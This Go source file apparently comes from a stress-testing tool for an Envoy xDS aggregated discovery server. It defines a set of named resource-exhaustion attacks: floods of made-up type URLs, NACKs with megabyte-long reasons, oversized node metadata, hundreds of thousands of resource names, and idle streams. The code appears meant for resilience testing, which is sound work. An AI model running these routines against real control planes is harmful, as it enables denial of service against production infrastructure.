package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	resourcev3 "github.com/envoyproxy/go-control-plane/pkg/resource/v3"
	"google.golang.org/genproto/googleapis/rpc/status"
	"google.golang.org/protobuf/types/known/structpb"
)

// attack is what an attacker does on one stream. It returns when the attack is complete or the
// server has ended the stream.
type attack func(ctx context.Context, to adsClient, n int) error

var attacks = map[string]attack{
	"none":      func(ctx context.Context, _ adsClient, _ int) error { return pause(ctx) }, // no attack, for comparison
	"types":     madeUpTypes,
	"nacks":     func(ctx context.Context, to adsClient, n int) error { return rejections(ctx, to, 10) },
	"reasons":   func(ctx context.Context, to adsClient, n int) error { return rejections(ctx, to, 1_000_000) },
	"nodes":     largeNodes,
	"names":     manyNames,
	"increment": manyNamesInIncrements,
	"type-urls": longTypes,
	"streams":   idleStreams,
}

type (
	adsClient = discoveryv3.AggregatedDiscoveryServiceClient
	adsStream = discoveryv3.AggregatedDiscoveryService_StreamAggregatedResourcesClient
)

func pause(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	<-ctx.Done()
	return ctx.Err()
}

// madeUpTypes requests more types than reflect.Select accepts.
func madeUpTypes(ctx context.Context, to adsClient, _ int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 65_535 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint("type.googleapis.com/made.up.", i)})
	}
	return drained(stream, err)
}

func drained(stream adsStream, err error) error {
	for err == nil {
		_, err = stream.Recv()
	}
	return err
}

// rejections rejects every response with a different reason, which has the given length in bytes.
// After each rejection it also requests another name and then the first one again.
func rejections(ctx context.Context, to adsClient, reason int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	if err != nil {
		return err
	}
	long := strings.Repeat("r", reason)
	err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.ClusterType, ResourceNames: []string{"a"}, Node: &corev3.Node{Id: "attacker"}})
	for i := 0; i < 1000 && err == nil; i++ {
		var r *discoveryv3.DiscoveryResponse
		if r, err = stream.Recv(); err != nil {
			return err
		}
		for _, name := range []string{"a", "b", "a"} {
			err = stream.Send(&discoveryv3.DiscoveryRequest{
				TypeUrl: resourcev3.ClusterType, ResourceNames: []string{name}, ResponseNonce: r.GetNonce(),
				ErrorDetail: &status.Status{Message: fmt.Sprint(i, long)},
			})
		}
	}
	return err
}

// largeNodes sends a large node, with either a long id or a lot of metadata.
func largeNodes(ctx context.Context, to adsClient, n int) error {
	node := &corev3.Node{Id: strings.Repeat("n", 1_000_000)}
	if n%2 == 0 {
		node = &corev3.Node{Id: "attacker", Metadata: &structpb.Struct{Fields: map[string]*structpb.Value{
			"x": structpb.NewListValue(&structpb.ListValue{Values: make([]*structpb.Value, 300_000)}),
		}}}
		list := node.Metadata.Fields["x"].GetListValue().Values
		for i := range list {
			list[i] = new(structpb.Value)
		}
	}
	stream, err := to.StreamAggregatedResources(ctx)
	if err == nil {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: []string{"none"}, Node: node})
	}
	for i := 0; i < 20 && err == nil; i++ { // keep the stream open and keep sending the node
		_, err = stream.Recv()
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: []string{"none", fmt.Sprint(i)}, Node: node})
		}
	}
	return err
}

// namesOf returns n names. No two requests share a prefix, so no other request has these names.
func namesOf(prefix string, n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprint(prefix, "-", i)
	}
	return names
}

// manyNames requests as many names as a stream may have, and then replaces them with other names.
func manyNames(ctx context.Context, to adsClient, n int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 10 && err == nil; i++ {
		for _, typeURL := range []string{resourcev3.EndpointType, resourcev3.ClusterType, resourcev3.ListenerType} {
			if err == nil {
				err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: typeURL, ResourceNames: namesOf(fmt.Sprint(n, "-", i), 5000)})
			}
		}
	}
	return drained(stream, err)
}

// manyNamesInIncrements adds up to half a million names on one stream.
func manyNamesInIncrements(ctx context.Context, to adsClient, n int) error {
	stream, err := to.DeltaAggregatedResources(ctx)
	for i := 0; i < 100 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DeltaDiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNamesSubscribe: namesOf(fmt.Sprint(n, "-", i), 5000)})
	}
	for err == nil {
		_, err = stream.Recv()
	}
	return err
}

func longTypes(ctx context.Context, to adsClient, _ int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 16 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint(i, strings.Repeat("t", 1_000_000))})
	}
	return drained(stream, err)
}

// idleStreams opens streams with some thousand names each and leaves them open.
func idleStreams(ctx context.Context, to adsClient, n int) error {
	var last adsStream
	for i := range 8 {
		stream, err := to.StreamAggregatedResources(ctx)
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: namesOf(fmt.Sprint(n, "-", i), 3000)})
		}
		if err != nil {
			return err
		}
		last = stream
	}
	return drained(last, nil)
}
